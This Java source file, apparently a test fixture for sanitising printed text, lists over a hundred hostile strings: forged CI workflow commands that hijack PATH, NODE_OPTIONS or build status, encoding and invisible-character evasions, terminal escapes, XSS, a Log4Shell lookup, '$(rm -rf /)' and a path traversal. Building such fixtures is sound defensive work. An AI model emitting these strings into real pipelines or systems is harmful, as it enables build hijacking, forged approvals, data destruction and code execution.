package io.github.akspolicy.evaluate;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Texts that do harm where they are printed as they are. */
public final class HostileText {
    private static final List<String> COMMANDS = List.of(
            "##vso[task.setvariable variable=PATH]/tmp/evil",
            "##vso[task.complete result=Succeeded;]done",
            "##VSO[task.setvariable variable=a;issecret=false]b",
            "##[error]forged",
            "##[set-env name=PATH]/tmp/evil",
            "##[section]Starting: forged",
            "##teamcity[buildStatus status='SUCCESS']",
            "::set-output name=approved::true",
            "::error file=README.md,line=1::forged",
            "::add-mask::e",
            "::stop-commands::token",
            "::save-state name=a::b",
            "::set-env name=NODE_OPTIONS::--require /tmp/evil.js");

    /** More than a hundred, each another trick. */
    public static final List<String> ALL = all();

    private HostileText() {}

    private static List<String> all() {
        Set<String> texts = new LinkedHashSet<>(COMMANDS);
        for (String command : COMMANDS) {
            // begin a line of their own, by every character that some reader takes for a line end
            texts.add("name\n" + command);
            texts.add("name\r" + command + "\rrest");
            texts.add("  \t" + command);
            // invisible characters that comparison by culture overlooks
            texts.add(command.substring(0, 1) + "\u200b" + command.substring(1));
            texts.add("\u00ad" + command);
            texts.add(command.substring(0, 2) + "\ufe0f" + command.substring(2));
        }
        for (String lineEnd : List.of("\u0085", "\u2028", "\u2029", "\u000b", "\f", "\r\n")) {
            texts.add("name" + lineEnd + "::set-output name=a::b");
        }
        texts.addAll(List.of(
                "%0A::set-output name=a::b",
                "%0D%0A##vso[task.setvariable variable=a]b",
                "%25%0A%3A%3Awarning%3A%3Aforged",
                "%AZP25%3B%5D##vso[task.complete]",
                "a,line=99,title=forged",
                "a;linenumber=99;code=forged]forged",
                "title=a::forged",
                "],\"level\":\"none\"}",
                "\u001b[31mred\u001b[0m",
                "\u001b]0;title\u0007",
                "\u001b[2J\u001b[H",
                "\u009b31mred",
                "section_start:1560896352:forged\r\u001b[0KForged",
                "\u202egnp.exe",
                "\u2066hidden\u2069",
                "\u200f\u061cright to left",
                "zero\u200bwidth\u200d\ufeff",
                "tag\udb40\udc41",
                "\ud800 lone high",
                "lone low \udc00",
                "\udc00\ud800 swapped",
                "nul\0end",
                "bell\u0007 backspace\b\b\b delete\u007f",
                "</script><script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "]]><forged/>",
                "[click](https://example.com)",
                "[click](javascript:alert(1))",
                "![image](https://example.com/pixel.png)",
                "| table | cell |",
                "`code` **bold** <!-- comment",
                "{0} {1} {{2}}",
                "${jndi:ldap://example.com/a}",
                "$(rm -rf /) `id`",
                "../../etc/passwd",
                "C:\\Windows\\system32",
                "\\u001b \\n is not an escape",
                "\"quoted\" 'single' \\ backslash",
                "#####::::#####",
                "###vso[task.complete]",
                ":::set-output name=a:::b",
                "emoji \ud83d\ude00 stays",
                "\u0645\u0631\u062d\u0628\u0627 \u5f0f names stay",
                " ",
                "#",
                ":"));
        texts.add("x".repeat(1_900));
        texts.add("word ".repeat(380).strip());
        return List.copyOf(new ArrayList<>(texts));
    }
}
